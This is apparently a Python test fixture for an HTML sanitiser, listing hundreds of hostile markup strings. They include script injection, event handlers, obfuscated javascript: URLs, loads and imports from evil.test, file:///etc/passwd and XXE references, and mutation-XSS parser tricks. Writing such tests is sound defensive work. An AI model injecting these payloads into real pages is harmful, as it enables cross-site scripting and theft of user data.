"""Hostile markup of our own, for the sanitiser; each with the word KEPT where a reader must still see it."""

# ruff: noqa: E501
from __future__ import annotations

_SCRIPT = """
<script>alert(1)</script>KEPT
<SCRIPT SRC=https://evil.test/x.js></SCRIPT>KEPT
<scr<script>ipt>alert(1)</script>KEPT
<script >alert(1)</script\t\r bar>KEPT
<script/src=data:text/javascript,alert(1)></script>KEPT
<script type=module>import 'https://evil.test/a'</script>KEPT
<script>/*</script>KEPT<!--*/alert(1)-->
<b onclick=alert(1)>KEPT</b>
<b ONCLICK=alert(1)>KEPT</b>
<b/onmouseover=alert(1)>KEPT</b>
<b onmouseover="alert(1)" x>KEPT</b>
<b \x0bonclick=alert(1)>KEPT</b>
<b \x0confocus=alert(1) autofocus tabindex=1>KEPT</b>
<p onpointerenter=alert(1) style=display:block>KEPT</p>
<body onload=alert(1)>KEPT
<html onfocusin=alert(1)>KEPT
<details open ontoggle=alert(1)><summary>KEPT</summary></details>
<marquee onstart=alert(1)>KEPT</marquee>
<xss onafterscriptexecute=alert(1)>KEPT</xss>
<div onanimationstart=alert(1) style=animation:x>KEPT</div>
<a href=# onclick=alert(1)>KEPT</a>
<br onload=alert(1)>KEPT
<hr onscroll=alert(1)>KEPT
<table background=javascript:alert(1)><tr><td onclick=alert(1)>KEPT</td></tr></table>
<video onerror=alert(1)><source src=x></video>KEPT
<audio src=x onerror=alert(1)></audio>KEPT
<input autofocus onfocus=alert(1)>KEPT
<select onchange=alert(1)><option>x</select>KEPT
<textarea onfocus=alert(1) autofocus>x</textarea>KEPT
<button onclick=alert(1) type=submit>KEPT</button>
<keygen autofocus onfocus=alert(1)>KEPT
<isindex type=image src=1 onerror=alert(1)>KEPT
<template><script>alert(1)</script></template>KEPT
<slot onslotchange=alert(1)>KEPT</slot>
<p is="x-evil" data-x="1" x-on:click="alert(1)" @click="alert(1)" v-on:click=alert(1)>KEPT</p>
"""
_LINKS = """
<a href=javascript:alert(1)>KEPT</a>
<a href=" javascript:alert(1)">KEPT</a>
<a href="JaVaScRiPt:alert(1)">KEPT</a>
<a href="java\tscript:alert(1)">KEPT</a>
<a href="java&#10;script:alert(1)">KEPT</a>
<a href="&#x6A;avascript:alert(1)">KEPT</a>
<a href="javascript&colon;alert(1)">KEPT</a>
<a href="&#0000106&#0000097vascript:alert(1)">KEPT</a>
<a href="\x01javascript:alert(1)">KEPT</a>
<a href="\xa0javascript:alert(1)">KEPT</a>
<a href="&nbsp;javascript:alert(1)">KEPT</a>
<a href="\u2003javascript:alert(1)">KEPT</a>
<a href="\u200bjavascript:alert(1)">KEPT</a>
<a href="\ufeffjavascript:alert(1)">KEPT</a>
<a href="&Tab;javascript:alert(1)">KEPT</a>
<a href="//evil.test/x">KEPT</a>
<a href="\\\\evil.test\\share">KEPT</a>
<a href="/etc/passwd">KEPT</a>
<a href="file:///etc/passwd">KEPT</a>
<a href="FILE:///C:/x">KEPT</a>
<a href="smb://evil.test/s">KEPT</a>
<a href="data:text/html,<script>alert(1)</script>">KEPT</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">KEPT</a>
<a href="vbscript:msgbox(1)">KEPT</a>
<a href="livescript:x">KEPT</a>
<a href="mocha:x">KEPT</a>
<a href="view-source:https://a.test">KEPT</a>
<a href="ms-word:ofe|u|https://evil.test/a.docx">KEPT</a>
<a href="search-ms:query=x&crumb=location:\\\\evil.test">KEPT</a>
<a href="tel:123">KEPT</a>
<a href="ftp://evil.test/x">KEPT</a>
<a href="blob:https://evil.test/x">KEPT</a>
<a href="about:blank">KEPT</a>
<a href="ht\rtps://evil.test">KEPT</a>
<a href="https:evil.test">KEPT</a>
<a href="http:\\\\evil.test">KEPT</a>
<a href="https://a.test" ping="https://evil.test/ping" target=_blank rel=opener download>KEPT</a>
<a href="https://a.test/&quot;onclick=alert(1)">KEPT</a>
<a href='https://a.test/"><script>alert(1)</script>'>KEPT</a>
<a xlink:href="javascript:alert(1)" formaction=javascript:alert(1)>KEPT</a>
<a href="javascript:%61lert(1)" href="https://a.test">KEPT</a>
<area href=javascript:alert(1) shape=default>KEPT
<base href="javascript:/a/">KEPT<a href=x>KEPT</a>
<q cite="javascript:alert(1)">KEPT</q>
<blockquote cite="https://evil.test/x">KEPT</blockquote>
<del cite="file:///x">KEPT</del>
"""
_LOADS = """
<img src=https://evil.test/pixel.gif>KEPT
<img src=x onerror=alert(1)>KEPT
<img src="file:///etc/passwd">KEPT
<img srcset="https://evil.test/1x.png 1x, https://evil.test/2.png 2x">KEPT
<img src=data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=>KEPT
<image src=https://evil.test/x>KEPT
<img longdesc=https://evil.test/x lowsrc=https://evil.test/y dynsrc=https://evil.test/z>KEPT
<picture><source srcset=https://evil.test/x><img src=y></picture>KEPT
<video poster=https://evil.test/x autoplay><source src=https://evil.test/v></video>KEPT
<audio autoplay src=https://evil.test/a></audio>KEPT
<track src=https://evil.test/t>KEPT
<iframe src=https://evil.test></iframe>KEPT
<iframe srcdoc="<script>alert(1)</script>"></iframe>KEPT
<frameset><frame src=https://evil.test></frameset>KEPT
<object data=https://evil.test/x.swf></object>KEPT
<embed src=https://evil.test/x.swf>KEPT
<applet code=x archive=https://evil.test/x.jar></applet>KEPT
<link rel=stylesheet href=https://evil.test/x.css>KEPT
<link rel=preload as=image href=https://evil.test/x>KEPT
<link rel="dns-prefetch" href="//evil.test">KEPT
<meta http-equiv=refresh content="0;url=https://evil.test">KEPT
<meta http-equiv=set-cookie content=x=1>KEPT
<body background=https://evil.test/x>KEPT
<table background=https://evil.test/x><tr><td background=https://evil.test/y>KEPT</td></tr></table>
<form action=https://evil.test><input name=a value=b><button>KEPT</button></form>
<input type=image src=https://evil.test/x>KEPT
<isindex action=https://evil.test>KEPT
<portal src=https://evil.test></portal>KEPT
<noscript><img src=https://evil.test/x></noscript>KEPT
<noscript>KEPT<p title="</noscript><img src=x onerror=alert(1)>">x</p></noscript>
<bgsound src=https://evil.test/x>KEPT
<layer src=https://evil.test/x>KEPT</layer>
<xml src=https://evil.test/x>KEPT</xml>
<p style="background:url(https://evil.test/x)">KEPT</p>
<p style="behavior:url(x.htc);-moz-binding:url(x)">KEPT</p>
<p style="width:expression(alert(1))">KEPT</p>
<p style="position:fixed;inset:0">KEPT</p>
<p style="list-style-image:url(file:///x)">KEPT</p>
<style>@import 'https://evil.test/x.css';</style>KEPT
<style>body{background:url(https://evil.test)}</style>KEPT
<style><!--</style>KEPT<script>alert(1)//--></script>
<font face="x" color=red style=x>KEPT</font>
<p class="x" id="y" name="z">KEPT</p>
<ol start="1&quot; onclick=alert(1)"><li value=javascript:x>KEPT</li></ol>
<td colspan=javascript:alert(1)>KEPT
<p dir="javascript:x" lang="&quot;><script>">KEPT</p>
"""
_MUTATION = '''
<svg><script>alert(1)</script></svg>KEPT
<svg onload=alert(1)>KEPT</svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>KEPT
<svg><style><img src=x onerror=alert(1)></style></svg>KEPT
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">KEPT
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x"/></svg>KEPT
<svg><image href=https://evil.test/x /></svg>KEPT
<svg><animate attributeName=href values=javascript:alert(1) /><a>x</a></svg>KEPT
<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>KEPT
<svg><title><style><img src=x onerror=alert(1)></style></title></svg>KEPT
<svg><desc><p title="</desc><script>alert(1)</script>"></p></desc></svg>KEPT
<math><mi//xlink:href="data:x,<script>alert(1)</script>">x</mi></math>KEPT
<math href="javascript:alert(1)">KEPT</math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></style></mglyph></table></mtext></math>KEPT
<math><annotation-xml encoding="text/html"><style><img src onerror=alert(1)></style></annotation-xml></math>KEPT
KEPT<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<p><svg><p title="</svg><img src=x onerror=alert(1)>">KEPT</p></svg>
<table><td><noscript><style></noscript><img src=x onerror=alert(1)></style></table>KEPT
<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>KEPT
<noframes><p title="</noframes><script>alert(1)</script>"></p></noframes>KEPT
<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>KEPT
<plaintext>KEPT<script>alert(1)</script>
<listing>&lt;img src=x onerror=alert(1)&gt;KEPT</listing>
<!--><script>alert(1)</script>-->KEPT
<!--!><img src=x onerror=alert(1)>-->KEPT
<!-- --!><img src=x onerror=alert(1)> -->KEPT
<![CDATA[<script>alert(1)</script>]]>KEPT
<?xml version="1.0"?><?php echo 1 ?>KEPT
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>KEPT &e;
<%<script>alert(1)</script>%>KEPT
<img """><script>alert(1)</script>">KEPT
<img src="`><script>alert(1)</script>`">KEPT
<a href="https://a.test"<script>alert(1)</script>>KEPT</a>
<<script>script>alert(1)<</script>/script>KEPT
<b <script>alert(1)</script>0>KEPT</b>
<div<script>alert(1)</script>KEPT
<p/title="/onmouseover=alert(1)">KEPT</p>
<a/href="j&Tab;a&NewLine;vascript:alert(1)">KEPT</a>
<title><img src=x onerror=alert(1)></title>KEPT
<title></title><style></title><img src=x onerror=alert(1)></style>KEPT
<option><style></option></select><img src=x onerror=alert(1)></style>KEPT
<select><template><style><!--</style><a rel="--></style></template></select><img id=x src=x onerror=alert(1)>"></a></template></select>KEPT
+ADw-script+AD4-alert(1)+ADw-/script+AD4-KEPT
\x00<scr\x00ipt>alert(1)</scr\x00ipt>KEPT
<scr\x00ipt src=https://evil.test></script>KEPT
\ufeff<script>alert(1)</script>KEPT
\uff1cscript\uff1ealert(1)\uff1c/script\uff1eKEPT
&lt;script&gt;alert(1)&lt;/script&gt;KEPT
&amp;lt;script&amp;gt;KEPT
<a href="https://a.test/\u202egnp.exe">KEPT</a>
<math><style><p title="</style><img src=x onerror=alert(1)>">KEPT</p></style></math>
<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=alert(1)>"></p></foreignobject></annotation-xml></svg>KEPT
'''


def _lines(text: str) -> list[str]:
    return [line for line in text.strip("\n").split("\n") if line]


PAYLOADS = [*_lines(_SCRIPT), *_lines(_LINKS), *_lines(_LOADS), *_lines(_MUTATION)]
